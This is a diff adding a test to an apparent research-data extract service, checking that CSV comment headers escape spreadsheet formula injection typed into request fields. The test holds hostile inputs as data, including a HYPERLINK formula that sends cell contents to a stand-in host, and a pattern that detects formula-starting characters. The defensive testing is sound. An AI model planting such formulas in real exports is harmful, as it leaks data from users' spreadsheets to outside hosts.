@@ -192,6 +192,29 @@ describe.each(DRIVERS)('research extracts on %s', (driver) => {
     expect(await auditActions(id)).toContain('extract.approved_maori');
   });
 
+  it('writes header lines a spreadsheet cannot run as formulas, whatever the requester typed', async () => {
+    const hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', '+1', '-1+1', '@SUM(A1:A9)'];
+    const id = await ask(
+      analyst,
+      request(['region', 'urgent'], {
+        purpose: `Waiting times, ${hostile.join(', ')}\n${hostile[0]}`,
+        ethicsApproval: { ...ethics, committee: `${hostile[3]}, ${hostile[1]}`, reference: hostile[2] },
+      }),
+    );
+    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(200);
+    const res = await analyst.client.get(`/api/extracts/${id}/download`);
+    expect(res.statusCode, res.body).toBe(200);
+    const csv = parseCsv(res.body);
+    expect(csv.comments.join('\n')).toMatch(/^# Purpose: Waiting times,/m);
+    // A spreadsheet splits a comment line at commas too: no piece may start a formula or a quoted cell.
+    const pieces = csv.comments.flatMap((line) => line.split(','));
+    expect(pieces.filter((piece) => /^\s*[=+\-@"]|^[\t\r]/.test(piece))).toEqual([]);
+    // Each value is still there for a reader, as text.
+    for (const value of hostile)
+      expect(pieces.some((piece) => piece.startsWith(`' ${value.split(',')[0]}`))).toBe(true);
+    expect(csv.header).toEqual(['row', 'region', 'urgent']);
+  });
+
   it('refuses approval of a request without ethnicity or iwi by the Māori governance route', async () => {
     const id = await ask(analyst, request(['urgent']));
     expect((await maori.client.post(`/api/extracts/${id}/approve-maori`)).statusCode).toBe(409);
